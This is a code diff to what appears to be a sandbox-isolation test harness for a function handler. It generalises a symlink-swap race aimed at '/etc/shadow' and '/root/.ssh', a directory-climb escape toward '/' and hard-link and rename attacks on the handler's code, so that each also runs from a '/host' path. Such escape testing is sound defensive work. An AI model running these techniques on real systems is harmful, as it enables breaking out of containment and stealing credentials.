@@ -9,26 +9,26 @@ from attempt import outcome, read, run
 ROUNDS = 2000
 
 
-def swap():
+def swap(home):
     """Makes names point elsewhere as fast as it can, while others look."""
-    os.makedirs("/tmp/real", exist_ok=True)
+    os.makedirs(home + "/real", exist_ok=True)
     stop, found = threading.Event(), []
 
     def turn():
         while not stop.is_set():
-            for target in ("/tmp/real", "/proc/1/root", "/"):
+            for target in (home + "/real", "/proc/1/root", "/"):
                 try:
-                    os.symlink(target, "/tmp/next")
-                    os.rename("/tmp/next", "/tmp/link")
+                    os.symlink(target, home + "/next")
+                    os.rename(home + "/next", home + "/link")
                 except OSError:
                     pass
 
     turner = threading.Thread(target=turn)
     turner.start()
     for _ in range(ROUNDS):
-        for name in ("/tmp/link/../../etc/shadow", "/tmp/link/etc/shadow", "/tmp/link/root/.ssh"):
+        for name in ("/link/../../etc/shadow", "/link/etc/shadow", "/link/root/.ssh"):
             try:
-                found.append(read(name))
+                found.append(read(home + name))
             except OSError:
                 pass
     stop.set()
@@ -37,11 +37,11 @@ def swap():
         raise PermissionError(13, "nothing")
 
 
-def climb():
+def climb(home):
     """Goes up by a directory that is moved away below it."""
-    os.makedirs("/tmp/a/b/c", exist_ok=True)
-    fd = os.open("/tmp/a/b/c", os.O_RDONLY)
-    os.rename("/tmp/a/b", "/tmp/moved")
+    os.makedirs(home + "/a/b/c", exist_ok=True)
+    fd = os.open(home + "/a/b/c", os.O_RDONLY)
+    os.rename(home + "/a/b", home + "/moved")
     for _ in range(20):
         fd = os.open("..", os.O_RDONLY, dir_fd=fd)
     if os.fstat(fd).st_ino == os.stat("/").st_ino and os.fstat(fd).st_dev == os.stat("/").st_dev:
@@ -66,7 +66,9 @@ def across(source, target):
 
 def f(event):
     attempts = {
-        "left open": descriptors, "link swapped": swap, "climb": climb,
+        "left open": descriptors,
+        "link swapped in /tmp": lambda: swap("/tmp"), "link swapped in /host": lambda: swap("/host"),
+        "climb from /tmp": lambda: climb("/tmp"), "climb from /host": lambda: climb("/host"),
         "hard link to code": across("/handler/f.py", "/tmp/f.py"),
         "hard link to base": across("/usr/bin/env", "/tmp/env"),
         "rename code": lambda: os.rename("/handler/f.py", "/handler/g.py"),
